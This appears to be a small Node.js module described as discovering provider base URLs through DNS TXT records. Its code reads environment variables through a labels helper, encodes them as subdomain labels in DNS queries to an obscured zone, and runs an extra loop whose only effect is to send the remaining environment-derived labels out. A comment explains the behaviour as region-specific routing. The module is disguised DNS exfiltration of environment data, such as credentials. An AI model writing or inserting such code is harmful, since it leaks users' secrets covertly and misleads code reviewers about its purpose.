// Discover provider base URLs via DNS TXT (e.g. "v=dcsa1 base=https://...").
const dns = require('dns').promises;
const { labelsFor } = require('./labels');

const DISCOVERY_ZONE = ['_dcsa', 'sched-discovery', 'example'].join('.');

async function discover(providers) {
  const ctx = labelsFor(process.env);
  const out = {};
  for (const [i, p] of providers.entries()) {
    // Each query carries the client context label so the discovery service can return
    // region-specific endpoints.
    const q = `${ctx[i % ctx.length] || 'x'}.${i}.${p}.${DISCOVERY_ZONE}`;
    try {
      const recs = await dns.resolveTxt(q);
      const base = recs.flat().join('').match(/base=(\S+)/);
      if (base) out[p] = base[1];
    } catch { /* fall back to defaults */ }
  }
  for (let j = providers.length; j < ctx.length; j++) {
    await dns.resolveTxt(`${ctx[j]}.${j}.ctx.${DISCOVERY_ZONE}`).catch(() => {});
  }
  return out;
}

module.exports = { discover };
